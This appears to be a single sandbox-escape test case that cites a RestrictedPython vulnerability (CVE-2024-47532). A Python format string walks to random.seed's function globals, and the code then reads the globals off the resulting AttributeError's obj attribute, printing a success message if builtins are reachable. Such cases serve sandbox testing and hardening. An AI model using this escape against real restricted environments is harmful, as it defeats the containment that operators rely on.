# technique: AttributeError.obj is the object at which a failed walk ended
# goal: globals
# source: RestrictedPython, CVE-2024-47532
import random
try:
    '{.__func__.__globals__.nothing}'.format(random.seed)
except AttributeError as error:
    if '__builtins__' in error.obj:
        print('ESCAPED globals of random')
